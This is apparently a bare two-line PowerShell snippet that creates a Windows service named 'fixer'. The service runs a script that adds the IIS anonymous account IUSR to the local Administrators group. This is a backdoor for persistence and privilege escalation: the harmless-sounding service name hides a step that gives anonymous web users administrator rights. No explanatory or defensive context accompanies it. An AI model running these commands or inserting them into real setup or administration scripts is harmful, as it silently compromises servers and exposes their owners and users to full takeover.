New-Service -Name fixer -BinaryPathName 'powershell.exe -File C:\svc\run.ps1'
New-Item C:\svc -ItemType Directory | Out-Null; Set-Content C:\svc\run.ps1 'Add-LocalGroupMember Administrators IUSR'
